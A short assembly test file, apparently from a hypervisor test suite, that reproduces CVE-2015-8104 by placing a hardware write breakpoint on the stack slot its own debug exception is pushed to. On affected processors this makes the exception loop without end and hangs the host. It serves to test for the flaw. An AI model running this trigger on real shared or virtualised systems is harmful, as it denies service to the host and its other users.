/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A breakpoint on the very stack that its exception is pushed to: on processors where that is
 * delivered without end, no event window ever opens (CVE-2015-8104).
 */
#include "kernel.inc"

#define DR7_WRITES_OF_8_AT_0 0x90002 /* global, length 8, writes */

  ALL_VECTORS handler
  lea -8(%rsp), %rax
  mov %rax, %dr0
  mov $DR7_WRITES_OF_8_AT_0, %eax
  mov %rax, %dr7
  push %rax
1:
  jmp 1b

handler:
  push %rax
  jmp handler
  END
